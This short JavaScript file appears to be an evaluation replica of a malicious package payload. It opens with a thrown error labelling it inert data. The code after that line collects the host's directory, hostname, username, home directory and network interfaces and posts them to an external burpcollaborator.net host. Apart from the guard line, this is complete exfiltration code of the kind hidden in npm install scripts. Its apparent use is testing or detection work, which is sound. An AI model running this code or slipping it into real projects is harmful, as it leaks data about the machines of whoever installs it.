throw new Error("cordon eval replica: inert data, never run");
const os = require("os");
const https = require("https");

const data = JSON.stringify({
  p: __dirname,
  h: os.hostname(),
  u: os.userInfo().username,
  d: os.homedir(),
  n: os.networkInterfaces(),
});
const req = https.request({ hostname: "c9x2k1.burpcollaborator.net", port: 443, path: "/", method: "POST", headers: { "Content-Type": "application/json", "Content-Length": data.length } });
req.write(data);
req.end();
